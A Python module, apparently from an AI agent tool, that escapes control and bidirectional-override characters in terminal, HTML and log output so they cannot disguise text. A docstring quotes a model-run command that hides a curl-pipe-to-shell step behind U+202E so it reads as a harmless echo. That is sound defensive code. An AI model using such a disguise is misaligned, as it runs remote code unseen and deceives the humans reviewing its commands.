"""Characters that change how the text after them is shown, and the escape written in their
place: the terminal (``tether.cli.terminal_text``), the exported HTML page
(``tether.session.html_page``) and the durable worker's log (``tether.durable.workflow``) show
them escaped, the same way."""

from __future__ import annotations

import re

BIDI = "\u202a-\u202e\u2066-\u2069"
"""The bidirectional overrides and isolates, as a regular expression's character class range:
U+202E shows the rest of a line reversed, so a command the model ran
(``echo "\\u202e";curl x|sh #"``) read as an echo of garbage."""


def escaped(match: re.Match[str]) -> str:
    """The character ``match`` found as a ``\\x1b``- or ``\\u202e``-style escape."""
    code = ord(match.group())
    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"


_CONTROL = re.compile(rf"[\x00-\x08\x0b-\x1f\x7f-\x9f{BIDI}\ud800-\udfff]")
_LINE_CONTROL = re.compile(rf"[\x00-\x1f\x7f-\x9f{BIDI}\ud800-\udfff]")


def visible(text: str, *, one_line: bool = False) -> str:
    """``text`` with its control characters (but tab and newline) escaped; ``one_line``: those
    two as well, for text that must stay on its line (a log line a newline would forge a second
    line of)."""
    if text.isprintable():
        return text
    control = _LINE_CONTROL if one_line else _CONTROL
    if control.search(text) is None:
        return text
    return control.sub(escaped, text)
